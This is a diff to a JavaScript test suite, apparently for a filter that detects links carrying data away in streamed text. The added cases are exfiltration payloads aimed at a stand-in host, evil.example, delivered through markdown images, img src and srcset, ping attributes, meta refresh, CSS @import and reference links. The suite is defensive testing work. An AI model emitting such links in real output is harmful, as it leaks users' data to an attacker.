@@ -384,6 +384,14 @@ describe('links', () => {
     [`![x](https://docs.example.evil.example/?a=1)`, 'evil'],
     [`![x](https://docs.example@evil.example/?a=1)`, 'evil'],
     [`https://evil.example/${'x/'.repeat(200)}`, 'x/x/'],
+    [`![x](https:evil.example/p.png?d=${data})`, data],
+    [`![x](https:/evil.example/p.png?d=${data})`, data],
+    [`<img src="https:\\evil.example/?d=${data}">`, data],
+    [`<img srcset="a.png 1x, //evil.example/?d=${data} 2x">`, data],
+    [`<a href="x" ping="//evil.example/?d=${data}${data}">x</a>`, data],
+    [`<meta http-equiv=refresh content="0;url=//evil.example/?d=${data}${data}">`, data],
+    [`<style>@import '//evil.example/?d=${data}'</style>`, data],
+    [`![x][r]\n\n[r]:\n   //evil.example/?d=${data}\n`, data],
   ])('%s carries data away', (text, hidden) => {
     for (const pieces of [[text], [...text]]) {
       const ran = run(pieces)
@@ -399,6 +407,8 @@ describe('links', () => {
     'see https://elsewhere.example/search?q=how+to+do+it for more',
     'https://github.example/o/r/commit/0123456789abcdef0123456789abcdef01234567',
     'a // comment and C:\\\\path',
+    'call(x, // first\n y) and "a": // none',
+    'http:localhost is no address, and [a](http:b) is none of another host',
     'http://localhost:8080/v1?x=1',
   ])('%s stays', (text) => {
     for (const pieces of [[text], [...text]]) expect(run(pieces).text).toBe(text)
